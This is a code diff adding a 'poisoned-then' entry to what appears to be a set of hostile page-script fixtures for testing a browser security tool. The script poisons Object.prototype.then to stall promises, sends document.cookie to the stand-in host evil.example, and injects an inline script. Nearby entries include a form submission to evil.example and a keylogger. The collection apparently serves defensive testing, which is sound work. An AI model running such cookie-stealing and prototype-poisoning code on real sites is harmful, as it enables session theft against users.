@@ -871,6 +871,25 @@ export const MAIN_WORLD_SCRIPTS = {
   form('https://evil.example/poisoned-once').requestSubmit();
 })();`,
 
+  /**
+   * Puts a \`then\` on Object.prototype that holds back for good what the engine resolves promises with — a
+   * stream read's \`{ value, done }\`, a digest's ArrayBuffer — then sends the cookie in a fetch body and inserts
+   * an inline script: the report of each waited for one of those.
+   */
+  'poisoned-then': `(() => {
+  Object.defineProperty(Object.prototype, 'then', {
+    configurable: true,
+    get() {
+      const held = this instanceof ArrayBuffer || (Object.hasOwn(this, 'done') && Object.hasOwn(this, 'value'));
+      return held ? function () {} : undefined;
+    },
+  });
+  fetch('https://evil.example/poisoned-then', { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => {});
+  const inline = document.createElement('script');
+  inline.textContent = 'window.__poisonedThenRan = true;';
+  document.head.append(inline);
+})();`,
+
   /** A window-wide key listener added by a bare call, as top-level code writes it (no receiver: the window). */
   'bare-keylogger': `(() => {
   const keys = [];
